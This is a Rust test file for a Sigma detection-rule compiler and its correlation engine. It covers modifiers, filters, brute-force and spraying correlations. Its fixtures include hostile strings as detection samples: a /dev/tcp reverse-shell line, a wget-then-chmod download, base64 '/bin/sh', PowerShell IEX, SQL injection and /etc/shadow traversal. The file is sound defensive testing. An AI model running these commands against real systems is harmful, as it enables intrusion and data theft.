//! Sigma compilation scenarios: one test per modifier and condition form, filters, every correlation type
//! (over Sigma rules, through the real engine and window store), patches and side-file tests, and the
//! SigmaHQ corpus.

use std::path::{Path, PathBuf};

use chrono::TimeZone;

use super::*;
use crate::detect::ruletest::{run_rule_tests, MemoryWindows, TestOutcome};
use crate::detect::{DetectionEngine, Rule, Scoring};
use crate::model::{Detection, Event, Severity, Timestamp};

fn compile_one(yaml: &str) -> SigmaSet {
    compile(&[Source { path: "test.yml".into(), text: yaml.into() }], &Mapping::shipped())
}

/// The one rule `yaml` compiles to; fails with the report when it was skipped.
fn only_rule(yaml: &str) -> Rule {
    let set = compile_one(yaml);
    assert_eq!(set.rules.len(), 1, "{}", set.report.render());
    set.rules.into_iter().next().unwrap()
}

/// A rule over every event (`product: vigil`) with this `detection:` body (indented by four spaces).
fn detection(body: &str) -> Rule {
    only_rule(&format!("title: Test rule\nid: 11111111-0000-4000-8000-000000000001\nlogsource:\n    product: vigil\ndetection:\n{body}"))
}

/// Why `yaml`'s first document was skipped.
fn skipped(yaml: &str) -> String {
    let set = compile_one(yaml);
    match &set.report.entries[0].outcome {
        Outcome::Skipped { reason } => reason.clone(),
        other => panic!("expected a skip, got {other:?}"),
    }
}

fn skipped_detection(body: &str) -> String {
    skipped(&format!("title: Test rule\nlogsource:\n    product: vigil\ndetection:\n{body}"))
}

fn at(s: i64) -> Timestamp {
    chrono::Utc.timestamp_opt(1_718_445_600 + s, 0).single().unwrap()
}

fn message(text: &str) -> Event {
    Event {
        id: "m".into(),
        tenant: "acme".into(),
        source: "json".into(),
        message: Some(text.into()),
        ..Event::default()
    }
}

/// A web access line, normalised as ingest does.
fn web(line: &str) -> Event {
    let mut e = Event {
        id: "w".into(),
        tenant: "acme".into(),
        source: "syslog".into(),
        message: Some(line.into()),
        timestamp: at(0),
        received_at: at(0),
        ..Event::default()
    };
    crate::parse::normalize(&mut e);
    e
}

fn access(client: &str, method: &str, target: &str, status: u16, agent: &str) -> String {
    format!(r#"{client} - - [15/Jun/2024:10:00:00 +0000] "{method} {target} HTTP/1.1" {status} 512 "-" "{agent}""#)
}

// ── values and modifiers ──────────────────────────────────────────────────────────────────────────────────

#[test]
fn plain_values_match_whole_ignoring_case_and_wildcards_match_inside() {
    let r = detection("    sel:\n        user:\n            - 'Admin'\n            - 'svc_*_prod'\n            - 'db?'\n    condition: sel\n");
    let user = |u: &str| Event { user: Some(u.into()), ..message("") };
    assert!(r.applies(&user("admin")));
    assert!(r.applies(&user("ADMIN")));
    assert!(!r.applies(&user("administrator")), "a plain value is the whole value");
    assert!(r.applies(&user("svc_backup_prod")));
    assert!(r.applies(&user("db1")));
    assert!(!r.applies(&user("db12")), "? is exactly one character");
    assert!(!r.applies(&message("admin")), "an event without the field does not match");
}

#[test]
fn contains_startswith_endswith() {
    let r = detection("    a:\n        message|contains: 'union select'\n    b:\n        message|startswith: 'GET /admin'\n    c:\n        message|endswith: '.php'\n    condition: 1 of them\n");
    assert!(r.applies(&message("id=1 UNION SELECT password")));
    assert!(r.applies(&message("get /administrator")));
    assert!(r.applies(&message("/var/www/shell.PHP")));
    assert!(!r.applies(&message("POST /admin")));
    assert!(!r.applies(&message("shell.php.bak")));
}

#[test]
fn escaped_wildcards_are_literal() {
    let r =
        detection("    sel:\n        message: 'what\\?'\n        label.path: 'C:\\Windows\\\\*'\n    condition: sel\n");
    let mut e = message("what?");
    e.labels.insert("path".into(), r"C:\Windows\System32".into());
    assert!(r.applies(&e), "`\\\\*`: a backslash, then a wildcard");
    assert!(!r.applies(&message("whatX")), "`\\?` is a literal question mark");
    let r = detection("    sel:\n        label.path: 'C:\\Windows\\*'\n    condition: sel\n");
    let mut star = message("");
    star.labels.insert("path".into(), r"C:\Windows*".into());
    assert!(r.applies(&star), "`\\*` is a literal star");
    assert!(!r.applies(&e));
}

#[test]
fn cased_makes_matching_case_sensitive() {
    let r = detection("    sel:\n        message|contains|cased: 'EVIL'\n    condition: sel\n");
    assert!(r.applies(&message("an EVIL thing")));
    assert!(!r.applies(&message("an evil thing")));
}

#[test]
fn non_ascii_values_ignore_case_too() {
    let r = detection("    sel:\n        user|contains: 'ÉCOLE'\n    condition: sel\n");
    assert!(r.applies(&Event { user: Some("une école".into()), ..message("") }));
}

#[test]
fn all_links_the_values_with_and() {
    let r = detection("    sel:\n        message|contains|all:\n            - 'bash -c'\n            - '/dev/tcp/'\n    condition: sel\n");
    assert!(r.applies(&message("BASH -C 'sh >& /dev/tcp/1.2.3.4/80'")));
    assert!(!r.applies(&message("bash -c id")));
    // With wildcards too (no literal automaton).
    let r = detection(
        "    sel:\n        message|all:\n            - '*wget*'\n            - '*chmod +x*'\n    condition: sel\n",
    );
    assert!(r.applies(&message("wget http://x/a; chmod +x a")));
    assert!(!r.applies(&message("wget http://x/a")));
}

#[test]
fn re_and_its_flags() {
    let r = detection("    sel:\n        message|re: 'id=[0-9]+ (or|and) [0-9]=[0-9]'\n    condition: sel\n");
    assert!(r.applies(&message("GET /item?id=12 or 1=1")));
    assert!(!r.applies(&message("GET /item?id=12 OR 1=1")), "regular expressions are case-sensitive by default");
    let r = detection("    sel:\n        message|re|i: 'id=[0-9]+ (or|and) [0-9]=[0-9]'\n    condition: sel\n");
    assert!(r.applies(&message("GET /item?id=12 OR 1=1")));
    let r = detection("    sel:\n        message|re|m: '^root$'\n    condition: sel\n");
    assert!(r.applies(&message("user\nroot\nend")));
    let r = detection("    sel:\n        message|re: '^root$'\n    condition: sel\n");
    assert!(!r.applies(&message("user\nroot\nend")));
    let r = detection("    sel:\n        message|re|s: 'begin.end'\n    condition: sel\n");
    assert!(r.applies(&message("begin\nend")));
    let r = detection("    sel:\n        message|re: 'begin.end'\n    condition: sel\n");
    assert!(!r.applies(&message("begin\nend")));
    let reason = skipped_detection("    sel:\n        message|re: 'a(?=b)'\n    condition: sel\n");
    assert!(reason.contains("not supported") && reason.contains("look-around"), "{reason}");
}

#[test]
fn cidr_matches_networks_of_both_families() {
    let r = detection("    sel:\n        src_ip|cidr:\n            - '10.0.0.0/8'\n            - '2001:db8::/32'\n    condition: sel\n");
    let from = |ip: &str| Event { src_ip: ip.parse().ok(), ..message("") };
    assert!(r.applies(&from("10.20.30.40")));
    assert!(r.applies(&from("2001:db8::7")));
    assert!(!r.applies(&from("192.0.2.1")));
    assert!(!r.applies(&message("")));
    assert!(
        skipped_detection("    sel:\n        src_ip|cidr: 'nonsense'\n    condition: sel\n").contains("not a network")
    );
}

#[test]
fn base64_and_base64offset() {
    // "/bin/sh" encoded whole, and found inside a longer Base64 blob at every offset.
    let r = detection("    sel:\n        message|base64: '/bin/sh'\n    condition: sel\n");
    assert!(r.applies(&message("L2Jpbi9zaA==")));
    let r = detection("    sel:\n        message|base64offset|contains: '/bin/sh'\n    condition: sel\n");
    use base64::Engine as _;
    for prefix in ["", "x", "xy", "exec "] {
        let blob = base64::engine::general_purpose::STANDARD.encode(format!("{prefix}/bin/sh -i"));
        assert!(r.applies(&message(&format!("payload={blob}"))), "offset {}", prefix.len());
    }
    assert!(!r.applies(&message(&base64::engine::general_purpose::STANDARD.encode("/bin/bash"))));
    assert!(skipped_detection("    sel:\n        message|base64: 'a*'\n    condition: sel\n").contains("wildcards"));
}

#[test]
fn wide_and_utf16_encode_before_base64() {
    use base64::Engine as _;
    let utf16le: Vec<u8> = "IEX (New-Object".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let blob = base64::engine::general_purpose::STANDARD.encode(&utf16le);
    for modifier in ["wide", "utf16le"] {
        let r = detection(&format!(
            "    sel:\n        message|{modifier}|base64offset|contains: 'New-Object'\n    condition: sel\n"
        ));
        assert!(r.applies(&message(&format!("powershell -enc {blob}"))), "{modifier}");
    }
    let utf16be: Vec<u8> = "whoami".encode_utf16().flat_map(u16::to_be_bytes).collect();
    let r = detection("    sel:\n        message|utf16be|base64: 'whoami'\n    condition: sel\n");
    assert!(r.applies(&message(&base64::engine::general_purpose::STANDARD.encode(&utf16be))));
    let mut bom = vec![0xFF, 0xFE];
    bom.extend("id".encode_utf16().flat_map(u16::to_le_bytes));
    let r = detection("    sel:\n        message|utf16|base64: 'id'\n    condition: sel\n");
    assert!(r.applies(&message(&base64::engine::general_purpose::STANDARD.encode(&bom))));
    // Wide text in the field itself (NULs between characters).
    let r = detection("    sel:\n        message|wide|contains: 'cmd'\n    condition: sel\n");
    assert!(r.applies(&message("x c\0m\0d\0 y")));
}

#[test]
fn windash_accepts_every_dash_form() {
    let r = detection("    sel:\n        message|windash|contains: ' -encodedcommand '\n    condition: sel\n");
    for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        assert!(r.applies(&message(&format!("powershell.exe {dash}EncodedCommand AAA"))), "{dash}");
    }
    assert!(!r.applies(&message("powershell.exe +encodedcommand AAA")));
}

#[test]
fn numeric_comparisons() {
    let r = detection("    sel:\n        label.status|gte: 500\n        label.bytes|lt: 100\n    condition: sel\n");
    let ev = |status: &str, bytes: &str| {
        let mut e = message("");
        e.labels.insert("status".into(), status.into());
        e.labels.insert("bytes".into(), bytes.into());
        e
    };
    assert!(r.applies(&ev("503", "20")));
    assert!(r.applies(&ev("500", "99")));
    assert!(!r.applies(&ev("499", "20")));
    assert!(!r.applies(&ev("503", "100")));
    assert!(!r.applies(&ev("n/a", "20")), "a value that is not a number compares false");
    let r = detection("    a:\n        src_port|gt: 1023\n    b:\n        src_port|lte: 22\n    condition: a or b\n");
    assert!(r.applies(&Event { src_port: Some(50_000), ..message("") }));
    assert!(r.applies(&Event { src_port: Some(22), ..message("") }));
    assert!(!r.applies(&Event { src_port: Some(80), ..message("") }));
}

#[test]
fn neq_excludes_values_but_needs_the_field() {
    let r = detection("    sel:\n        action|neq: 'GET'\n    condition: sel\n");
    assert!(r.applies(&Event { action: Some("POST".into()), ..message("") }));
    assert!(!r.applies(&Event { action: Some("get".into()), ..message("") }));
    assert!(!r.applies(&message("")));
    let r = detection("    sel:\n        label.status|neq: 200\n    condition: sel\n");
    let status = |s: &str| {
        let mut e = message("");
        e.labels.insert("status".into(), s.into());
        e
    };
    assert!(r.applies(&status("404")));
    assert!(!r.applies(&status("200")));
}

#[test]
fn exists_and_null_and_empty() {
    let r = detection("    sel:\n        user|exists: true\n        label.referer|exists: false\n    condition: sel\n");
    assert!(r.applies(&Event { user: Some("bob".into()), ..message("") }));
    let mut with_referer = Event { user: Some("bob".into()), ..message("") };
    with_referer.labels.insert("referer".into(), "https://x".into());
    assert!(!r.applies(&with_referer));
    let r = detection("    sel:\n        user: null\n    condition: sel\n");
    assert!(r.applies(&message("")));
    assert!(!r.applies(&Event { user: Some("bob".into()), ..message("") }));
    let r = detection("    sel:\n        user: ''\n    condition: sel\n");
    assert!(r.applies(&message("")), "empty values are absent in Vigil's events");
    assert!(skipped_detection("    sel:\n        user|exists: maybe\n    condition: sel\n").contains("true or false"));
}

#[test]
fn fieldref_compares_two_fields() {
    let r = detection("    sel:\n        user|fieldref: label.target_user\n    condition: sel\n");
    let ev = |user: &str, target: &str| {
        let mut e = Event { user: Some(user.into()), ..message("") };
        e.labels.insert("target_user".into(), target.into());
        e
    };
    assert!(r.applies(&ev("root", "ROOT")));
    assert!(!r.applies(&ev("alice", "root")));
    let r = detection("    sel:\n        message|fieldref|contains: user\n    condition: sel\n");
    let mut e = message("session opened for carol by sshd");
    e.user = Some("carol".into());
    assert!(r.applies(&e));
}

#[test]
fn expand_uses_configured_placeholders_and_skips_unknown_ones() {
    let yaml = "title: Admin login\nlogsource:\n    product: vigil\ndetection:\n    sel:\n        user|expand: '%Administrators%'\n    condition: sel\n";
    let reason = skipped(yaml);
    assert!(reason.contains("%Administrators%") && reason.contains("[sigma.placeholders]"), "{reason}");
    let mut mapping = Mapping::shipped();
    mapping.extend(&"[placeholders]\nAdministrators = [\"root\", \"adm_*\"]\n".parse().unwrap(), "t.toml", "").unwrap();
    let set = compile(&[Source { path: "t.yml".into(), text: yaml.into() }], &mapping);
    let r = &set.rules[0];
    assert!(r.applies(&Event { user: Some("root".into()), ..message("") }));
    assert!(r.applies(&Event { user: Some("ADM_backup".into()), ..message("") }));
    assert!(!r.applies(&Event { user: Some("alice".into()), ..message("") }));
    // Without `expand`, %...% is literal.
    let r = detection("    sel:\n        user: '%Administrators%'\n    condition: sel\n");
    assert!(r.applies(&Event { user: Some("%administrators%".into()), ..message("") }));
}

#[test]
fn time_modifiers_read_the_event_time() {
    let r = detection("    sel:\n        timestamp|hour: 3\n    condition: sel\n");
    let when =
        |h: u32| Event { timestamp: chrono::Utc.with_ymd_and_hms(2024, 6, 15, h, 30, 0).unwrap(), ..message("") };
    assert!(r.applies(&when(3)));
    assert!(!r.applies(&when(4)));
    let r = detection("    sel:\n        '@timestamp|month': 6\n        '@timestamp|year': 2024\n        '@timestamp|minute': 30\n        '@timestamp|day': 15\n        '@timestamp|week': 24\n    condition: sel\n");
    assert!(r.applies(&when(10)));
}

#[test]
fn keywords_search_the_message() {
    let r = detection(
        "    keywords:\n        - 'Trojan*FOUND'\n        - 'stack smashing detected'\n    condition: keywords\n",
    );
    assert!(r.applies(&message("/tmp/x: Win.Trojan.Agent-1 FOUND")));
    assert!(r.applies(&message("*** STACK SMASHING DETECTED ***: terminated")));
    assert!(!r.applies(&message("FOUND a Trojan")));
    let raw_only = Event { raw: Some("stack smashing detected".into()), ..Event::default() };
    assert!(r.applies(&raw_only), "an event without a message is searched in its raw text");
    let r = detection("    keywords:\n        '|all':\n            - 'bash -c /bin/bash'\n            - '&/dev/tcp/'\n    condition: keywords\n");
    assert!(r.applies(&message("x bash -c /bin/bash 0>&/dev/tcp/1.2.3.4/4444")));
    assert!(!r.applies(&message("bash -c /bin/bash")));
}

#[test]
fn rules_share_one_literal_search_without_mixing_their_literals() {
    let two = "title: A\nid: share-a\nlogsource:\n    product: vigil\ndetection:\n    k:\n        - 'evil'\n    condition: k\n---\n\
               title: B\nid: share-b\nlogsource:\n    product: vigil\ndetection:\n    k:\n        - 'bad'\n        - 'worse'\n    condition: k\n";
    let set = compile_one(two);
    let (a, b) = (&set.rules[0], &set.rules[1]);
    let mut e = message("a bad day");
    assert!(!a.applies(&e) && b.applies(&e));
    // The same buffer, the same length, other text: the cached hits of the old text must not be used.
    e.message.as_mut().unwrap().replace_range(2..5, "EVI");
    e.message.as_mut().unwrap().insert(5, 'L');
    assert_eq!(e.message.as_deref(), Some("a EVIL day"));
    assert!(a.applies(&e) && !b.applies(&e));
    let mut same_length = message("a bad day");
    assert!(b.applies(&same_length));
    same_length.message.as_mut().unwrap().replace_range(2..5, "god");
    assert!(!b.applies(&same_length));
}

#[test]
fn lists_of_maps_are_any_and_maps_are_all() {
    let r = detection("    sel:\n        - action: 'POST'\n          label.path|endswith: '/login'\n        - user: 'root'\n    condition: sel\n");
    let mut login = Event { action: Some("POST".into()), ..message("") };
    login.labels.insert("path".into(), "/app/login".into());
    assert!(r.applies(&login));
    assert!(!r.applies(&Event { action: Some("POST".into()), ..message("") }));
    assert!(r.applies(&Event { user: Some("root".into()), ..message("") }));
}

#[test]
fn conditions_with_not_parentheses_of_and_them() {
    let body = "    sel_a:\n        message|contains: 'alpha'\n    sel_b:\n        message|contains: 'beta'\n    filter_x:\n        message|contains: 'test'\n    _hidden:\n        message|contains: 'nothing'\n    condition: CONDITION\n";
    let cases = [
        ("1 of sel_* and not 1 of filter_*", "alpha", true),
        ("1 of sel_* and not 1 of filter_*", "alpha test", false),
        ("all of sel_*", "alpha", false),
        ("all of sel_*", "beta alpha", true),
        ("(sel_a or sel_b) and not filter_x", "beta", true),
        ("sel_a or sel_b and filter_x", "alpha", true),
        ("(sel_a or sel_b) and filter_x", "alpha", false),
        ("1 of them", "test", true),
        ("all of them", "alpha beta test", true),
        ("all of them", "alpha beta", false),
        ("not not sel_a", "alpha", true),
    ];
    for (condition, text, expected) in cases {
        let r = detection(&body.replace("CONDITION", condition));
        assert_eq!(r.applies(&message(text)), expected, "{condition} on {text:?}");
    }
    // A list of conditions is their disjunction.
    let r = detection("    a:\n        message|contains: 'one'\n    b:\n        message|contains: 'two'\n    condition:\n        - a\n        - b\n");
    assert!(r.applies(&message("two")));
}

#[test]
fn unsupported_constructs_are_skipped_with_the_reason() {
    let cases = [
        ("    sel:\n        message: x\n    condition: sel | count() by src_ip > 10\n", "aggregation pipe"),
        ("    sel:\n        message: x\n    condition: sel and other\n", "does not define"),
        ("    sel:\n        message|frobnicate: x\n    condition: sel\n", "unknown value modifier `frobnicate`"),
        ("    sel:\n        CommandLine: x\n    condition: sel\n", "unmapped field `CommandLine`"),
        ("    sel:\n        message: x\n", "no condition"),
        ("    sel:\n        message|contains: x\n    condition: 1 of nothing_*\n", "matches no search identifier"),
    ];
    for (body, expected) in cases {
        let reason = skipped_detection(body);
        assert!(reason.contains(expected), "{body}: {reason}");
    }
    let reason = skipped("title: t\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    sel:\n        Image|endswith: '\\whoami.exe'\n    condition: sel\n");
    assert!(reason.contains("unsupported logsource") && reason.contains("product=windows"), "{reason}");
    let reason = skipped("title: t\nstatus: deprecated\nlogsource:\n    product: vigil\ndetection:\n    sel:\n        message: x\n    condition: sel\n");
    assert!(reason.contains("deprecated"), "{reason}");
    let set = compile_one("not: [valid");
    assert!(matches!(&set.report.entries[0].outcome, Outcome::Skipped { reason } if reason.contains("invalid YAML")));
}

// ── rules as alerts see them ──────────────────────────────────────────────────────────────────────────────

const WEB_RULE: &str = r#"title: Admin Panel Probe
id: 6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f
status: test
description: A client asks for an admin panel that the site does not have.
references:
    - https://example.org/admin-probes
author: Vigil tests
tags:
    - attack.reconnaissance
    - attack.t1595.003
logsource:
    category: webserver
detection:
    selection:
        cs-uri-stem|startswith: '/phpmyadmin'
        cs-method: 'GET'
    filter_ok:
        sc-status: 200
    condition: selection and not filter_ok
falsepositives:
    - Administrators who forgot where the panel is
level: high
"#;

#[test]
fn a_sigma_rule_becomes_an_engine_rule_with_its_metadata() {
    let r = only_rule(WEB_RULE);
    assert_eq!(r.id, "sigma-6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f");
    assert_eq!(r.name, "Admin Panel Probe");
    assert_eq!(r.kind, crate::detect::RuleKind::Passthrough);
    assert_eq!(r.severity, crate::detect::SeverityPolicy::Fixed(Severity::High));
    assert_eq!(r.mitre, vec!["T1595.003".to_string()]);
    assert_eq!(r.runbook.as_deref(), Some("A client asks for an admin panel that the site does not have."));
    let info = r.sigma.as_ref().unwrap();
    assert_eq!(info.sigma_id.as_deref(), Some("6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f"));
    assert_eq!(info.falsepositives, vec!["Administrators who forgot where the panel is".to_string()]);
    assert_eq!(info.references, vec!["https://example.org/admin-probes".to_string()]);
    assert_eq!(r.group_by[0].to_string(), "src_ip|host|source");
    assert!(r.applies(&web(&access("203.0.113.9", "GET", "/phpMyAdmin/index.php", 404, "curl/8"))));
    assert!(!r.applies(&web(&access("203.0.113.9", "GET", "/phpmyadmin/", 200, "curl/8"))), "the filter");
    assert!(!r.applies(&web(&access("203.0.113.9", "POST", "/phpmyadmin/", 404, "curl/8"))));
    assert!(!r.applies(&message("GET /phpmyadmin")), "not a web event: outside the logsource");
}

#[test]
fn cs_uri_query_is_the_whole_request_target() {
    let r = only_rule("title: t\nlogsource:\n    category: webserver\ndetection:\n    sel:\n        cs-uri-query|contains: '../../etc/'\n    tail:\n        cs-uri-query|endswith: '/mgmt/tm/util/bash'\n    condition: 1 of them\n");
    assert!(r.applies(&web(&access("198.51.100.4", "GET", "/cgi-bin/../../etc/passwd", 400, "x"))));
    assert!(r.applies(&web(&access("198.51.100.4", "GET", "/download?file=../../etc/shadow", 200, "x"))));
    assert!(r.applies(&web(&access("198.51.100.4", "POST", "/mgmt/tm/util/bash", 200, "x"))));
    assert!(!r.applies(&web(&access("198.51.100.4", "POST", "/mgmt/tm/util/bash?x=1", 200, "x"))));
}

#[tokio::test]
async fn a_passthrough_sigma_rule_raises_a_detection_per_client() {
    let rule = only_rule(WEB_RULE);
    let engine = DetectionEngine { rules: vec![rule], scoring: Scoring::default() };
    let store = MemoryWindows::default();
    let mut events = vec![
        web(&access("203.0.113.9", "GET", "/phpmyadmin/setup.php", 404, "x")),
        web(&access("203.0.113.9", "GET", "/phpmyadmin/", 404, "x")),
        web(&access("198.51.100.1", "GET", "/index.html", 200, "x")),
    ];
    for (i, e) in events.iter_mut().enumerate() {
        e.id = format!("e{i}");
    }
    let found = engine.evaluate(&store, &mut events, at(10)).await.unwrap();
    assert_eq!(found.len(), 1);
    let d = &found[0];
    assert_eq!(
        (d.rule.as_str(), d.entity.as_str(), d.count),
        ("sigma-6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f", "src_ip=203.0.113.9", 2)
    );
    assert_eq!(d.severity, Severity::High);
    assert!(d.reasons[0].contains("Admin Panel Probe") && d.reasons[0].contains("203.0.113.9"), "{:?}", d.reasons);
    assert_eq!(events[0].rules, vec![d.rule.clone()]);
    assert_eq!(events[0].mitre, vec!["T1595.003".to_string()]);
    assert!(events[2].rules.is_empty());
}

// ── filters ───────────────────────────────────────────────────────────────────────────────────────────────

#[test]
fn a_filter_applies_to_the_rules_it_names_within_its_logsource() {
    let filter = r#"
title: Our vulnerability scanner
id: 0b6a8f7e-1111-4222-8333-944455556666
logsource:
    category: webserver
filter:
    rules:
        - 6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f
    selection:
        c-ip|cidr: '10.0.0.0/8'
    condition: not selection
"#;
    let other = "title: Other\nid: other-1\nlogsource:\n    category: webserver\ndetection:\n    sel:\n        cs-uri-stem|startswith: '/phpmyadmin'\n    condition: sel\n";
    let set = compile(
        &[
            Source { path: "rule.yml".into(), text: WEB_RULE.into() },
            Source { path: "other.yml".into(), text: other.into() },
            Source { path: "mf_scanner.yml".into(), text: filter.into() },
        ],
        &Mapping::shipped(),
    );
    let f = set.report.entries.iter().find(|e| e.kind == "filter").unwrap();
    assert_eq!(f.outcome, Outcome::Applied { rules: vec!["sigma-6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f".into()] });
    let probe = |client: &str| web(&access(client, "GET", "/phpmyadmin/", 404, "x"));
    let named = set.rules.iter().find(|r| r.id.ends_with("0a1b2c3d4e5f")).unwrap();
    let unnamed = set.rules.iter().find(|r| r.id == "sigma-other-1").unwrap();
    assert!(!named.applies(&probe("10.1.2.3")), "the scanner is filtered out of the named rule");
    assert!(named.applies(&probe("203.0.113.9")));
    assert!(unnamed.applies(&probe("10.1.2.3")), "a rule the filter does not name is untouched");

    // `rules: any` applies to every rule of the logsource; a filter for another logsource applies to none.
    let any = filter.replace("    rules:\n        - 6d1f3c52-1a2b-4c3d-8e9f-0a1b2c3d4e5f\n", "    rules: any\n");
    let set = compile(
        &[
            Source { path: "rule.yml".into(), text: WEB_RULE.into() },
            Source { path: "other.yml".into(), text: other.into() },
            Source { path: "mf.yml".into(), text: any.clone() },
        ],
        &Mapping::shipped(),
    );
    assert!(set.rules.iter().all(|r| !r.applies(&probe("10.9.9.9"))));
    let linux = any.replace("    category: webserver\n", "    product: linux\n");
    let set = compile(
        &[Source { path: "rule.yml".into(), text: WEB_RULE.into() }, Source { path: "mf.yml".into(), text: linux }],
        &Mapping::shipped(),
    );
    assert!(set.rules[0].applies(&probe("10.9.9.9")));
    assert!(matches!(&set.report.entries[1].outcome, Outcome::Skipped { reason } if reason.contains("no loaded rule")));
}

// ── correlations, through the engine ──────────────────────────────────────────────────────────────────────

fn sshd(i: usize, at_s: i64, text: &str) -> Event {
    let mut e = Event {
        id: format!("s{i:03}"),
        tenant: "acme".into(),
        source: "syslog".into(),
        program: Some("sshd".into()),
        host: Some("bastion".into()),
        message: Some(text.into()),
        timestamp: at(at_s),
        received_at: at(at_s),
        ..Event::default()
    };
    crate::parse::normalize(&mut e);
    e
}

fn failed(i: usize, at_s: i64, user: &str, ip: &str) -> Event {
    sshd(i, at_s, &format!("Failed password for {user} from {ip} port {} ssh2", 40_000 + i))
}

fn accepted(i: usize, at_s: i64, user: &str, ip: &str) -> Event {
    sshd(i, at_s, &format!("Accepted password for {user} from {ip} port {} ssh2", 40_000 + i))
}

const SSH_RULES: &str = r#"title: SSH login failed
id: 9a4c0000-0000-4000-8000-000000000001
name: ssh_failed
logsource:
    product: linux
    service: sshd
detection:
    selection:
        - 'Failed password for'
    condition: selection
level: low
---
title: SSH login accepted
id: 9a4c0000-0000-4000-8000-000000000002
name: ssh_accepted
logsource:
    product: linux
    service: sshd
detection:
    selection:
        event.outcome: success
        event.action: login
    condition: selection
level: low
"#;

async fn run(rules: Vec<Rule>, batches: Vec<Vec<Event>>) -> Vec<Detection> {
    let engine = DetectionEngine { rules, scoring: Scoring::default() };
    let store = MemoryWindows::default();
    let mut out: Vec<Detection> = Vec::new();
    for mut batch in batches {
        let now = batch.iter().map(|e| e.timestamp).max().unwrap_or_default();
        for d in engine.evaluate(&store, &mut batch, now).await.unwrap() {
            if !out.iter().any(|o| o.id == d.id) {
                out.push(d);
            }
        }
    }
    out
}

fn correlated(correlation: &str) -> SigmaSet {
    compile(
        &[
            Source { path: "ssh.yml".into(), text: SSH_RULES.into() },
            Source { path: "mr.yml".into(), text: correlation.into() },
        ],
        &Mapping::shipped(),
    )
}

#[tokio::test]
async fn event_count_is_a_threshold_over_sigma_rules() {
    let set = correlated(
        "title: SSH brute force (Sigma)\nid: c0000000-0000-4000-8000-000000000001\ncorrelation:\n    type: event_count\n    rules:\n        - ssh_failed\n    group-by:\n        - SourceIp\n    timespan: 1m\n    condition:\n        gte: 5\nlevel: high\n",
    );
    assert_eq!(
        set.rules.len(),
        2,
        "the accepted rule stands alone; the failed one only feeds the correlation\n{}",
        set.report.render()
    );
    let failed_entry = set.report.entries.iter().find(|e| e.title == "SSH login failed").unwrap();
    assert_eq!(
        failed_entry.outcome,
        Outcome::Referenced { by: vec!["sigma-c0000000-0000-4000-8000-000000000001".into()] }
    );
    let corr = set.rules.iter().find(|r| r.id == "sigma-c0000000-0000-4000-8000-000000000001").unwrap().clone();
    assert_eq!(corr.kind.name(), "threshold");
    assert_eq!(corr.group_by[0].to_string(), "src_ip");

    let four: Vec<Event> = (0..4).map(|i| failed(i, i as i64 * 10, "root", "203.0.113.7")).collect();
    assert!(run(vec![corr.clone()], vec![four.clone()]).await.is_empty());
    let mut five = four.clone();
    five.push(failed(4, 60, "admin", "203.0.113.7"));
    five.push(failed(5, 20, "root", "198.51.100.2"));
    let found = run(vec![corr.clone()], vec![five.clone()]).await;
    assert_eq!(found.len(), 1);
    assert_eq!(
        (found[0].entity.as_str(), found[0].count, found[0].severity),
        ("src_ip=203.0.113.7", 5, Severity::High)
    );
    // The fifth a second later is outside the minute.
    let mut late = four;
    late.push(failed(4, 31, "admin", "203.0.113.7"));
    late[0].timestamp = at(-30);
    assert!(run(vec![corr.clone()], vec![late]).await.is_empty());
    // Split over calls and reversed, the same detection.
    let mut reversed = five.clone();
    reversed.reverse();
    let split = run(vec![corr.clone()], vec![reversed[..3].to_vec(), reversed[3..].to_vec()]).await;
    assert_eq!(split.iter().map(|d| &d.id).collect::<Vec<_>>(), found.iter().map(|d| &d.id).collect::<Vec<_>>());
}

#[test]
fn generate_true_keeps_the_referenced_rules_running() {
    let set = correlated(
        "title: c\nid: c-gen\ncorrelation:\n    type: event_count\n    rules: ssh_failed\n    group-by: SourceIp\n    timespan: 1m\n    generate: true\n    condition:\n        gte: 5\n",
    );
    assert_eq!(set.rules.len(), 3, "{}", set.report.render());
}

#[tokio::test]
async fn value_count_is_a_distinct_count() {
    let set = correlated(
        "title: Password spraying (Sigma)\nid: c-spray\ncorrelation:\n    type: value_count\n    rules:\n        - ssh_failed\n    group-by:\n        - SourceIp\n    timespan: 10m\n    condition:\n        field: User\n        gt: 3\n",
    );
    let corr = set.rules.iter().find(|r| r.id == "sigma-c-spray").unwrap().clone();
    assert_eq!(corr.kind.name(), "distinct");
    let same_user: Vec<Event> = (0..10).map(|i| failed(i, i as i64, "root", "203.0.113.8")).collect();
    assert!(run(vec![corr.clone()], vec![same_user]).await.is_empty());
    let users: Vec<Event> = ["alice", "bob", "carol", "dave"]
        .iter()
        .enumerate()
        .map(|(i, u)| failed(i, i as i64 * 60, u, "203.0.113.8"))
        .collect();
    let found = run(vec![corr], vec![users]).await;
    assert_eq!(found.len(), 1);
    assert!(found[0].reasons[0].contains("4 distinct user values"), "{:?}", found[0].reasons);
}

#[tokio::test]
async fn temporal_fires_when_every_rule_matched_within_the_timespan_in_any_order() {
    let set = correlated(
        "title: Failure and success\nid: c-temporal\ncorrelation:\n    type: temporal\n    rules:\n        - ssh_failed\n        - ssh_accepted\n    group-by:\n        - User\n    timespan: 5m\n",
    );
    let corr = set.rules.iter().find(|r| r.id == "sigma-c-temporal").unwrap().clone();
    assert_eq!(corr.kind.name(), "risk");
    let success_first = vec![accepted(0, 0, "alice", "10.0.0.1"), failed(1, 200, "alice", "10.0.0.2")];
    let found = run(vec![corr.clone()], vec![success_first]).await;
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].entity, "user=alice");
    let apart = vec![accepted(0, 0, "alice", "10.0.0.1"), failed(1, 301, "alice", "10.0.0.2")];
    assert!(run(vec![corr.clone()], vec![apart]).await.is_empty());
    let other_users = vec![accepted(0, 0, "alice", "10.0.0.1"), failed(1, 10, "bob", "10.0.0.2")];
    assert!(run(vec![corr], vec![other_users]).await.is_empty());
}

#[tokio::test]
async fn temporal_ordered_needs_the_order() {
    let set = correlated(
